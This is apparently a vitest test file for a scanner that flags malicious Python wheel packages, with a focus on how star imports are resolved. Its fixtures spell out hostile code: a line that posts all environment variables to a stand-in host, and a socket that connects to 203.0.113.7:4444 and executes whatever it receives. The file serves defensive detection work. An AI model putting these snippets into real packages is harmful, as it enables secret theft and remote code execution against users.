import { expect, test } from 'vitest';
import { analysePacked, inspect, python, wheel } from '../../../support/inspect.ts';

const stealer = python(
  'from os import *',
  'from requests import *',
  "post('https://in.metrics.invalid/k', data=dict(environ))",
);

test('names that a star import brings in from another project are that project’s', async () => {
  const told = await inspect('exfiltration', wheel({ 'pkg/__init__.py': stealer }));

  expect(told).toMatchObject([{ class: 'malware', score: 10, context: 'import', line: 3 }]);
});

test('a module of the archive hands on what it took over with a star', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'from .compat import *',
      's = socket(AF_INET, SOCK_STREAM)',
      "s.connect(('203.0.113.7', 4444))",
      'exec(s.recv(4096))',
    ),
    'pkg/compat.py': python('from socket import *'),
  });

  expect(await inspect('remote-code', file)).toMatchObject([{ class: 'malware', context: 'import', line: 4 }]);
});

test('look-alike: a function of the module’s own by the name of a client’s', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'from requests import *',
      'from tkinter import *',
      'def post(place, data): return len(data)',
      "post('https://in.metrics.invalid/k', data='a')",
      'root = Tk()',
    ),
  });

  expect((await analysePacked(file)).score).toBe(0);
});
